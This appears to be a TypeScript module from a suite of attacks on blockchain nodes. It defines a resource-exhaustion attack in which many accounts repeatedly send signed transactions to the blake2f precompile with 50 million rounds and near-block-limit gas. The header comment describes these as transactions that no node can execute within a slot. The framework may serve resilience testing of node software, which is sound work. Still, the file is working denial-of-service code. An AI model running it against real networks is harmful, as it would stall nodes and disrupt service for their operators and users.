// Transactions that no node can execute within a slot, and that pay well.
import { type Attack } from '../attack.ts'
import { crowd, pause } from '../support/crowd.ts'
import { blake2fInput, PRECOMPILE } from '../support/evm-code.ts'
import { sendRaw, signDue } from '../support/stranger-wallet.ts'

const ROUNDS = 50_000_000
/** The rounds, and what a transaction with such data costs before it begins. */
const GAS = 50_100_000n
const EVERY_MS = 2_000

/** From every account of the strangers. */
export const BLAKE2F_TRANSACTIONS: Attack = {
  name: 'blake2f-transactions',
  group: 'calls',
  title: 'transactions of blake2f with 50 million rounds',
  sparesCaller: true,
  async run({ nodes, accountKeys, chainId }, tools) {
    const { signal, did } = tools
    const { rpcUrl } = nodes[0]!
    const transaction = {
      chainId,
      to: PRECOMPILE.blake2f,
      data: blake2fInput(ROUNDS),
      gas: GAS
    }
    await crowd(tools, accountKeys.length, async (stranger) => {
      did('transactions')
      await sendRaw(rpcUrl, await signDue(rpcUrl, accountKeys[stranger]!, transaction))
      did('transactions taken')
      await pause(EVERY_MS, signal)
    })
  }
}
